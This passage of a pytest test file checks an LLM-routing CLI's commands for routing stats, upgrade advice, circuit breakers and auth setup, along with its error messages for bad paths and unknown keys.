    # "write" is a stage of docs only: support (its stage is triage) is not listed with 0 calls
    data = json.loads(
        ok(cli(home, "routing", "stats", "--stage", "write", "--db", str(db), "--json"))
    )
    assert [(s["workflow"], s["stage"], s["total_calls"]) for s in data["workflows"]] == [
        ("docs", "write", 50)
    ]
    out = ok(cli(home, "routing", "stats", "--stage", "write", "--db", str(db)))
    assert "docs / stage write: 50 calls" in out and "support" not in out
    none = ok(cli(home, "routing", "stats", "--stage", "nosuch", "--db", str(db)))
    assert none == (
        "No calls recorded for stage nosuch in the last 7 day(s).\n"
        "note: calls were recorded in the last 7 day(s) only for docs/write, support/triage\n"
    )


@pytest.fixture(scope="module")
def unnamed_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """12 failed calls without a workflow, 12 fine ones of "wf" without a stage, and 12
    failed ones of "wf"/"s1"."""
    path = tmp_path_factory.mktemp("unnamed") / "calls.db"
    start = datetime.now(UTC) - timedelta(minutes=10)
    groups: list[tuple[str | None, str | None, Outcome]] = [
        (None, None, Outcome.FAILURE),
        ("wf", None, Outcome.SUCCESS),
    ]
    groups.append(("wf", "s1", Outcome.FAILURE))
    records = [
        LLMCallRecord(
            provider="openai",
            model="gpt-4o-mini",
            tier=ModelTier.CHEAP,
            outcome=outcome,
            workflow=workflow,
            stage=stage,
            latency_ms=50.0,
            timestamp=start + timedelta(seconds=20 * g + i),
        )
        for g, (workflow, stage, outcome) in enumerate(groups)
        for i in range(12)
    ]

    async def fill() -> None:
        async with telemetry_from_url("sqlite:///" + str(path)) as telemetry:
            await telemetry.record_many(records)

    anyio.run(fill)
    return path


def test_routing_upgrades_judges_calls_without_a_workflow_or_stage_on_their_own(
    home: Path, unnamed_db: Path
) -> None:
    args = ("routing", "upgrades", "--db", str(unnamed_db))
    data = json.loads(ok(cli(home, *args, "--json")))
    rows = {
        (r["workflow"], r["stage"]): (r["window"], r["failures"], r["should_upgrade"])
        for r in data["stages"]
    }
    # the stage-less calls of "wf" all succeeded: not the failures of its stage s1
    assert rows == {
        ("", ""): (12, 12, True),
        ("wf", ""): (12, 0, False),
        ("wf", "s1"): (12, 12, True),
    }
    lines = ok(cli(home, *args)).splitlines()[2:]
    assert [line.split()[:5] for line in lines] == [
        ["(none)", "(none)", "12", "100.0%", "yes"],
        ["wf", "(none)", "12", "0.0%", "no"],
        ["wf", "s1", "12", "100.0%", "yes"],
    ]


def test_routing_upgrades_judges_every_stage_past_a_thousand(home: Path, tmp_path: Path) -> None:
    # a router seeds the tier advice of 1,000 stages at start (seed_stage_limit); the
    # command judges every stage it lists, so none may read "Insufficient data (0 calls)"
    # beside calls it counted (a tenant per stage: 1,001 of them, 10 failed calls each)
    path = tmp_path / "tenants.db"
    start = datetime.now(UTC) - timedelta(minutes=30)
    records = [
        LLMCallRecord(
            provider="openai",
            model="gpt-4o-mini",
            tier=ModelTier.CHEAP,
            outcome=Outcome.FAILURE,
            workflow="svc",
            stage=f"tenant-{t:04d}",
            latency_ms=50.0,
            timestamp=start + timedelta(milliseconds=t * 10 + i),
        )
        for t in range(1001)
        for i in range(10)
    ]

    async def fill() -> None:
        async with telemetry_from_url(f"sqlite:///{path}?on_full=wait") as telemetry:
            await telemetry.record_many(records)

    anyio.run(fill)
    data = json.loads(ok(cli(home, "routing", "upgrades", "--db", str(path), "--json")))
    windows = {r["stage"]: (r["window"], r["should_upgrade"]) for r in data["stages"]}
    assert len(windows) == 1001
    assert set(windows.values()) == {(10, True)}, windows["tenant-1000"]


def test_routing_stats_count_the_calls_without_a_workflow_or_stage(
    home: Path, unnamed_db: Path
) -> None:
    args = ("routing", "stats", "--db", str(unnamed_db))
    data = json.loads(ok(cli(home, *args, "--json")))
    assert {s["workflow"]: s["total_calls"] for s in data["workflows"]} == {"": 12, "wf": 24}
    out = ok(cli(home, *args))
    assert "no calls recorded" not in out and "(none) / all stages: 12 calls" in out
    stageless = json.loads(ok(cli(home, *args[:2], "wf", "--stage", "", *args[2:], "--json")))
    (stats,) = stageless["workflows"]
    assert (stats["total_calls"], stats["avg_success_rate"]) == (12, 1.0)


def _edited_db(tmp_path: Path, *statements: str) -> Path:
    """A SQLite telemetry file of `_records`, then ``statements`` run on it by hand."""
    path = tmp_path / "newer.db"

    async def fill() -> None:
        async with telemetry_from_url(f"sqlite:///{path}") as telemetry:
            await telemetry.record_many(_records())

    anyio.run(fill)
    conn = sqlite3.connect(path)
    try:
        for statement in statements:
            conn.execute(statement)
        conn.commit()
    finally:
        conn.close()
    return path


def test_routing_reads_a_tier_this_version_does_not_know_as_unknown(
    home: Path, tmp_path: Path
) -> None:
    # the newest call of each stage written by a newer version (or edited by hand)
    path = _edited_db(
        tmp_path,
        "UPDATE llm_calls SET tier = 'ultra' WHERE ts_us IN "
        "(SELECT max(ts_us) FROM llm_calls GROUP BY workflow, stage)",
    )
    stats = json.loads(ok(cli(home, "routing", "stats", "--db", str(path), "--json")))
    assert sum(w["total_calls"] for w in stats["workflows"]) == _RECORDS
    upgrades = json.loads(ok(cli(home, "routing", "upgrades", "--db", str(path), "--json")))
    windows = {(r["workflow"], r["stage"]): r["window"] for r in upgrades["stages"]}
    assert windows == {("docs", "write"): 20, ("support", "triage"): 20}


def test_export_and_stats_leave_out_a_row_whose_outcome_this_version_does_not_know(
    home: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # one call written by a newer version (or edited by hand): the rest is still read
    path = _edited_db(
        tmp_path,
        "UPDATE llm_calls SET outcome = 'deferred', circuit_state = 'quarantined' "
        "WHERE ts_us = (SELECT max(ts_us) FROM llm_calls)",
        "UPDATE llm_calls SET circuit_state = 'quarantined' WHERE id = 1",
    )
    result = cli(home, "telemetry", "export", "--format", "jsonl", "--db", str(path))
    assert len(ok(result).splitlines()) == _RECORDS - 1
    assert any(str(path) in r.getMessage() for r in caplog.records)  # one warning, the file
    stats = json.loads(ok(cli(home, "routing", "stats", "--db", str(path), "--json")))
    assert sum(w["total_calls"] for w in stats["workflows"]) == _RECORDS - 1


def test_routing_best_explains_the_choice(home: Path, db: Path) -> None:
    data = json.loads(
        ok(
            cli(
                home,
                "routing",
                "best",
                "docs",
                "write",
                "--min-success-rate",
                "0.8",
                "--db",
                str(db),
                "--json",
            )
        )
    )
    assert data["model"] == "gpt-4o-mini"  # 20/20 and cheaper than haiku
    assert {c["model"] for c in data["candidates"]} == {"claude-haiku-4-5", "gpt-4o-mini"}
    out = ok(cli(home, "routing", "best", "docs", "write", "--db", str(db)))
    assert "gpt-4o-mini" in out and "candidate" in out


def test_routing_best_with_nothing_qualifying_fails_with_reasons(home: Path, db: Path) -> None:
    result = cli(
        home,
        "routing",
        "best",
        "support",
        "triage",
        "--min-success-rate",
        "0.99",
        "--db",
        str(db),
    )
    assert result.returncode == 1
    assert "claude-haiku-4-5" in result.stderr and "Traceback" not in result.stderr


def test_routing_best_of_a_tier_the_registry_has_no_model_of_is_a_usage_error(
    home: Path, db: Path, tmp_path: Path
) -> None:
    # it failed with exit 1 saying "no candidate models for docs/write", not why
    registry = tmp_path / "cheap-only.json"
    registry.write_text(
        json.dumps(
            {"price_version": "t", "models": [ModelRegistry.default().get("gpt-4o-mini").to_dict()]}
        )
    )
    args = ("routing", "best", "docs", "write", "--db", str(db), "--registry", str(registry))
    result = cli(home, *args, "--tier", "premium")
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "--tier premium: the registry has no premium model" in result.stderr
    assert "gpt-4o-mini" in result.stderr and "Traceback" not in result.stderr


def test_routing_upgrades_flags_the_failing_stage(home: Path, db: Path) -> None:
    data = json.loads(ok(cli(home, "routing", "upgrades", "--db", str(db), "--json")))
    by_stage = {(r["workflow"], r["stage"]): r for r in data["stages"]}
    assert by_stage[("support", "triage")]["should_upgrade"] is True
    assert by_stage[("support", "triage")]["suggested_tier"] == "capable"
    assert by_stage[("docs", "write")]["should_upgrade"] is False
    assert "support" in ok(cli(home, "routing", "upgrades", "--db", str(db)))


# --------------------------------------------------------------------------- breaker


def test_breaker_status_open_and_reset(home: Path, db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    data = json.loads(ok(cli(home, "breaker", "status", "--db", str(copy), "--json")))
    states = {b["key"]: b for b in data["breakers"]}
    assert states["openai"]["state"] == "forced_open"
    assert states["openai"]["reason"] == "maintenance window"
    out = ok(cli(home, "breaker", "open", "anthropic", "--for", "60", "--db", str(copy)))
    assert "anthropic" in out and "forced_open" in out
    # --for counts from the store's own now (the time it stamps as opened_at)
    held = json.loads(
        ok(cli(home, "breaker", "open", "mistral", "--for", "60", "--db", str(copy), "--json"))
    )
    span = datetime.fromisoformat(held["open_until"]) - datetime.fromisoformat(held["opened_at"])
    assert span.total_seconds() == pytest.approx(60.0)
    ok(cli(home, "breaker", "reset", "openai", "--db", str(copy)))
    table = ok(cli(home, "breaker", "status", "--db", str(copy)))
    lines = {line.split()[0]: line for line in table.splitlines()[2:] if line.strip()}
    assert "forced_open" in lines["anthropic"]
    assert "closed" in lines["openai"]
    ok(cli(home, "breaker", "reset", "--all", "--db", str(copy)))
    after = json.loads(ok(cli(home, "breaker", "status", "--db", str(copy), "--json")))
    assert {b["state"] for b in after["breakers"]} <= {"closed"}


def test_breaker_open_of_a_key_the_store_did_not_hold_says_so(
    home: Path, db: Path, tmp_path: Path
) -> None:
    # `breaker open opanai` forced a key no worker ever checks and said only "Forced
    # opanai open until reset", as for a real one, while openai's calls went on
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    typo = cli(home, "breaker", "open", "opanai", "--db", str(copy), "--json")
    assert typo.returncode == 0, typo
    assert json.loads(typo.stdout)["state"] == "forced_open"  # opened all the same
    assert "note: this store held no state for opanai (" in typo.stderr, typo.stderr
    assert "keys held: openai" in typo.stderr, typo.stderr
    held = cli(home, "breaker", "open", "openai", "--db", str(copy))
    assert held.returncode == 0, held
    assert "note:" not in held.stderr, held.stderr


def test_breaker_status_shows_live_figures_as_of_now(home: Path, tmp_path: Path) -> None:
    """A lease that expired, an open time that ended and failures out of the window."""
    url = "sqlite:///" + str(tmp_path / "state.db")
    policy = BreakerPolicy(consecutive_failures=3, minimum_calls=100)

    async def fill() -> None:
        long_ago = time.time() - 3_600  # every lease, open time and window has ended since
        store = SQLiteStateStore(tmp_path / "state.db", clock=lambda: long_ago)
        async with store:
            for key, failures in (("p:window", 2), ("p:probe", 3), ("p:open", 3)):
                for _ in range(failures):
                    ticket = (await store.admit(key, policy)).ticket
                    assert ticket is not None
                    await store.record(
                        key, policy, [OutcomeReport(ticket=ticket, outcome=Outcome.FAILURE)]
                    )
            long_ago += 60
            assert (await store.admit("p:probe", policy)).ticket is not None

    anyio.run(fill)
    data = json.loads(ok(cli(home, "breaker", "status", "--db", url, "--json")))
    rows = {b["key"]: b for b in data["breakers"]}
    assert (rows["p:probe"]["state"], rows["p:probe"]["probes_in_flight"]) == ("half_open", 0)
    assert (rows["p:open"]["state"], rows["p:open"]["open_ended"]) == ("open", True)
    assert (rows["p:window"]["window_calls"], rows["p:window"]["window_failures"]) == (0, 0)
    assert rows["p:window"]["consecutive_failures"] == 2
    table = ok(cli(home, "breaker", "status", "--db", url))
    lines = {line.split()[0]: line for line in table.splitlines()[2:] if line.strip()}
    assert "open (ended: half-open at next call)" in lines["p:open"]
    assert " 0/0 " in lines["p:window"]


def test_breaker_status_says_which_failure_rate_window_it_counts(
    home: Path, tmp_path: Path
) -> None:
    """
    The stores keep a key's window buckets, not the policy they were written with:
    without --window / --buckets the status counts BreakerPolicy's default window and
    says it assumed it.
    """
    url = "sqlite:///" + str(tmp_path / "state.db")
    policy = BreakerPolicy(window_seconds=600, window_buckets=2, minimum_calls=100)

    async def fill() -> None:
        two_minutes_ago = time.time() - 120  # out of the default 60 s, within 600 s
        store = SQLiteStateStore(tmp_path / "state.db", clock=lambda: two_minutes_ago)
        async with store:
            for _ in range(2):
                ticket = (await store.admit("p:slow", policy)).ticket
                assert ticket is not None
                report = OutcomeReport(ticket=ticket, outcome=Outcome.FAILURE)
                await store.record("p:slow", policy, [report])

    anyio.run(fill)
    assumed = json.loads(ok(cli(home, "breaker", "status", "--db", url, "--json")))
    assert assumed["window"] == {"seconds": 60.0, "buckets": 6, "assumed": True}
    [row] = assumed["breakers"]
    assert (row["window_failures"], row["window_calls"]) == (0, 0)  # out of the 60 s
    table = ok(cli(home, "breaker", "status", "--db", url))
    assert "window: 60s in 6 buckets (assumed: the default;" in table
    given = ("--window", "600", "--buckets", "2")
    counted = json.loads(ok(cli(home, "breaker", "status", *given, "--db", url, "--json")))
    assert counted["window"] == {"seconds": 600.0, "buckets": 2, "assumed": False}
    assert counted["breakers"][0]["window_failures"] == 2
    table = ok(cli(home, "breaker", "status", *given, "--db", url))
    assert "window: 600s in 2 buckets (--window, --buckets)" in table
    assert "assumed" not in table
    table = ok(cli(home, "breaker", "status", "--window", "600", "--db", url))
    assert "window: 600s in 6 buckets (--window; buckets assumed: the default)" in table


def test_breaker_open_and_reset_count_the_window_they_are_given(home: Path, tmp_path: Path) -> None:
    """`open` and `reset` print states too: they take --window / --buckets like `status`."""
    url = "sqlite:///" + str(tmp_path / "state.db")
    policy = BreakerPolicy(window_seconds=600, window_buckets=2, minimum_calls=100)

    async def fill() -> None:
        two_minutes_ago = time.time() - 120  # out of the default 60 s, within 600 s
        store = SQLiteStateStore(tmp_path / "state.db", clock=lambda: two_minutes_ago)
        async with store:
            for key in ("p:a", "p:b"):
                ticket = (await store.admit(key, policy)).ticket
                assert ticket is not None
                report = OutcomeReport(ticket=ticket, outcome=Outcome.FAILURE)
                await store.record(key, policy, [report])

    anyio.run(fill)
    given = ("--window", "600", "--buckets", "2")
    opened = json.loads(ok(cli(home, "breaker", "open", "p:a", *given, "--db", url, "--json")))
    assert opened["state"] == "forced_open"
    assert (opened["window_failures"], opened["window_calls"]) == (1, 1)
    assert opened["window"] == {"seconds": 600.0, "buckets": 2, "assumed": False}
    table = ok(cli(home, "breaker", "open", "p:b", "--db", url))
    assert "window: 60s in 6 buckets (assumed: the default;" in table
    table = ok(cli(home, "breaker", "open", "p:b", *given, "--db", url))
    assert " 1/1 " in table and "window: 600s in 2 buckets (--window, --buckets)" in table
    reset = json.loads(ok(cli(home, "breaker", "reset", "p:a", *given, "--db", url, "--json")))
    assert reset["window"] == {"seconds": 600.0, "buckets": 2, "assumed": False}
    assert reset["breakers"][0]["state"] == "closed"
    table = ok(cli(home, "breaker", "reset", "--all", "--db", url))
    assert "window: 60s in 6 buckets (assumed: the default;" in table


def test_breaker_reset_of_a_key_the_store_does_not_hold_says_so(
    home: Path, db: Path, tmp_path: Path
) -> None:
    # a typo ("opnai") must not print "Reset opnai" while openai stays forced open
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    result = cli(home, "breaker", "reset", "opnai", "--db", str(copy))
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert "no breaker state for 'opnai'" in result.stderr and "openai" in result.stderr
    assert "Reset" not in result.stdout
    data = json.loads(ok(cli(home, "breaker", "status", "--db", str(copy), "--json")))
    states = {b["key"]: b["state"] for b in data["breakers"]}
    assert "opnai" not in states and states["openai"] == "forced_open"


def _cli_on_a_terminal(home: Path, answer: str, *args: str) -> tuple[int, str]:
    """Run the CLI with a pseudo-terminal as stdin and type ``answer``."""
    import pty

    master, slave = pty.openpty()
    env = {**os.environ, "EMPATHY_HOME": str(home)}
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "empathy_models", *args],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env=env,
        )
        os.write(master, answer.encode() + b"\n")
        out, _ = proc.communicate(timeout=60)
    finally:
        os.close(slave)
        os.close(master)
    return proc.returncode, out


def _terminal_answers(home: Path, answer: bytes, *args: str) -> subprocess.CompletedProcess[str]:
    """Run the CLI with a pseudo-terminal as stdin, type ``answer``; stdout and stderr apart."""
    import pty

    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen(
            [sys.executable, "-m", "empathy_models", *args],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "EMPATHY_HOME": str(home)},
        )
        os.write(master, answer)
        out, err = proc.communicate(timeout=60)
    finally:
        os.close(slave)
        os.close(master)
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)


def _demo_db(home: Path) -> Path:
    home.mkdir(exist_ok=True)
    db = home / "kept.db"
    ok(cli(home, "demo", "--calls", "5", "--db", str(db)))
    return db


def test_a_question_on_a_terminal_leaves_json_output_valid(home: Path) -> None:
    db = _demo_db(home)
    demo = _terminal_answers(home, b"n\n", "demo", "--calls", "5", "--db", str(db), "--json")
    assert demo.returncode == 1 and "[y/N]" in demo.stderr
    assert json.loads(demo.stdout)["error"]["message"] == "demo cancelled; nothing was written"
    setup = _terminal_answers(home, b"\n\n", "auth", "setup", "--json")
    assert setup.returncode == 0 and "Subscription tier" in setup.stderr
    assert json.loads(setup.stdout)["subscription_tier"] == "pro"


def test_end_of_input_at_the_demos_question_cancels_without_a_traceback(home: Path) -> None:
    db = _demo_db(home)
    before = db.read_bytes()
    result = _terminal_answers(home, b"\x04", "demo", "--calls", "5", "--db", str(db))
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "demo cancelled" in result.stderr
    assert db.read_bytes() == before


@pytest.mark.parametrize(("answer", "removed"), [("n", False), ("", False), ("y", True)])
def test_reset_on_a_terminal_asks_first(home: Path, answer: str, removed: bool) -> None:
    file = AuthStrategy(small_module_threshold=77).save(home / "auth_strategy.json")
    before = file.read_bytes()
    code, out = _cli_on_a_terminal(home, answer, "auth", "reset")
    assert "[y/N]" in out
    if removed:
        assert code == 0 and not file.exists()
        (backup,) = home.glob("auth_strategy.json.*.bak")
        assert AuthStrategy.load(backup).small_module_threshold == 77
    else:
        assert code == 1 and "cancelled" in out
        assert file.read_bytes() == before
        assert list(home.glob("*.bak")) == []


@pytest.mark.parametrize("answer", [b"n\n", b"\x04"])
def test_reset_cancelled_on_a_terminal_says_so_on_stderr(home: Path, answer: bytes) -> None:
    """
    "No" or Ctrl-D at the question: the cancellation is an error line on stderr, as the
    demo's is, stdout left empty (it was "Reset cancelled; ..." on stdout, exit 1).
    """
    file = AuthStrategy(small_module_threshold=77).save(home / "auth_strategy.json")
    result = _terminal_answers(home, answer, "auth", "reset")
    assert result.returncode == 1, result
    assert result.stdout == ""
    assert "empathy-models: error: reset cancelled; nothing was changed" in result.stderr
    assert "Traceback" not in result.stderr
    assert AuthStrategy.load(file).small_module_threshold == 77


def test_setup_on_a_terminal_asks_and_keeps_custom_fields(home: Path) -> None:
    file = AuthStrategy(small_module_threshold=321).save(home / "auth_strategy.json")
    code, out = _cli_on_a_terminal(home, "gold\n3\n", "auth", "setup")
    assert code == 0, out
    assert "please answer one of" in out  # "gold" was refused, then "3" (max) taken
    s = AuthStrategy.load(file)
    assert s.subscription_tier.value == "max"
    assert s.default_mode.value == "auto"  # empty answer keeps the current value
    assert s.small_module_threshold == 321


@pytest.mark.parametrize(
    "args",
    [
        ("telemetry", "summary", "--db", "~no_such_user_here/calls.db"),
        ("demo", "--db", "~no_such_user_here/demo.db", "--calls", "5"),
    ],
)
def test_a_db_path_under_a_home_that_does_not_exist_is_one_error_line(
    home: Path, args: tuple[str, ...]
) -> None:
    result = cli(home, *args)
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert result.stderr == (
        "empathy-models: error: cannot expand '~no_such_user_here/"
        f"{Path(args[args.index('--db') + 1]).name}': no home directory for that user; "
        "write the path in full\n"
    )


def test_recommend_prices_from_the_configured_registry_or_registry_option(
    home: Path, tmp_path: Path
) -> None:
    from empathy_models import ModelRegistry

    data = ModelRegistry.default().to_dict()
    data["price_version"] = "zero-prices"
    for model in data["models"]:
        model["input_price_per_mtok"] = 0.0
        model["output_price_per_mtok"] = 0.0
    (tmp_path / "cheap.json").write_text(json.dumps(data))
    (tmp_path / "empathy.toml").write_text('registry = "cheap.json"\n')
    source = tmp_path / "a.py"
    source.write_text("x = 1\n")
    out = json.loads(ok(cli(home, "auth", "recommend", str(source), "--json", cwd=tmp_path)))
    assert out["estimate"]["price_version"] == "zero-prices"
    assert out["estimate"]["api_cost"] == 0
    other = tmp_path / "elsewhere"
    other.mkdir()
    (other / "mine.json").write_text(json.dumps({**data, "price_version": "mine"}))
    args = ("auth", "recommend", str(source), "--json", "--registry", str(other / "mine.json"))
    assert json.loads(ok(cli(home, *args, cwd=tmp_path)))["estimate"]["price_version"] == "mine"


def test_recommend_prices_on_the_provider_given_and_says_which_can(
    home: Path, tmp_path: Path
) -> None:
    # a registry of one provider's models (a house server's, as empathy.toml may name)
    # made `auth recommend` fail with "no 'anthropic' model of tier 'cheap'", and no
    # option could price it on the models that registry has
    from empathy_models import ModelRegistry

    data = ModelRegistry.default().to_dict()
    data["price_version"] = "house-1"
    data["models"] = [
        {**m, "provider": "house"} for m in data["models"] if m["provider"] == "openai"
    ]
    (tmp_path / "house.json").write_text(json.dumps(data))
    (tmp_path / "empathy.toml").write_text('registry = "house.json"\n')
    source = tmp_path / "a.py"
    source.write_text("x = 1\n")
    refused = cli(home, "auth", "recommend", str(source), cwd=tmp_path)
    assert refused.returncode == 1, refused
    assert "--provider house" in refused.stderr, refused.stderr
    args = ("auth", "recommend", str(source), "--json", "--provider", "house")
    out = json.loads(ok(cli(home, *args, cwd=tmp_path)))
    assert out["estimate"]["price_version"] == "house-1"
    assert {s["model"] for s in out["estimate"]["stages"]} <= {m["id"] for m in data["models"]}
    assert out["estimate"]["api_cost"] > 0
    # the default stays anthropic's, and a provider the registry has no models of is named
    default = json.loads(ok(cli(home, "auth", "recommend", str(source), "--json")))
    assert all(s["model"].startswith("claude") for s in default["estimate"]["stages"])
    wrong = cli(home, "auth", "recommend", str(source), "--provider", "nobody", cwd=tmp_path)
    assert wrong.returncode == 1, wrong
    assert "'nobody'" in wrong.stderr and "--provider house" in wrong.stderr, wrong.stderr


@pytest.mark.timeout(60)
def test_auth_commands_on_a_fifo_fail_clearly_instead_of_waiting(
    home: Path, tmp_path: Path
) -> None:
    fifo = tmp_path / "strategy.json"
    os.mkfifo(fifo)
    for args in (("status",), ("setup", "--tier", "max"), ("recommend", str(fifo))):
        result = cli(home, "auth", *args, "--file", str(fifo))
        assert result.returncode == 1, result
        assert f"{fifo}: not a regular file" in result.stderr, result
        assert "Traceback" not in result.stderr


def test_a_relative_empathy_home_is_an_error_wherever_the_cli_runs(tmp_path: Path) -> None:
    # resolved against the working directory, it named another file in each one
    for where in ("a", "b"):
        (tmp_path / where).mkdir()
        result = cli(Path("state"), "auth", "setup", "--small", "42", cwd=tmp_path / where)
        assert result.returncode == 1, result
        assert result.stderr == (
            "empathy-models: error: EMPATHY_HOME='state' is a relative path: set "
            "EMPATHY_HOME to a full path\n"
        )
        assert list((tmp_path / where).iterdir()) == []


def test_an_empathy_home_that_is_a_file_is_reported_as_not_a_directory(tmp_path: Path) -> None:
    home = tmp_path / "empathy"
    home.write_text("not a directory\n")
    for args in (
        ("status",),
        ("status", "--json"),
        ("setup", "--tier", "max"),
        ("reset", "--yes"),
        ("restore",),
    ):
        result = cli(home, "auth", *args)
        assert result.returncode == 1, result
        assert f"{home} is not a directory" in (result.stderr + result.stdout), result
        assert "not created yet" not in result.stdout and "File exists" not in result.stderr
        assert "Nothing to reset" not in result.stdout, result
    assert home.read_text() == "not a directory\n"
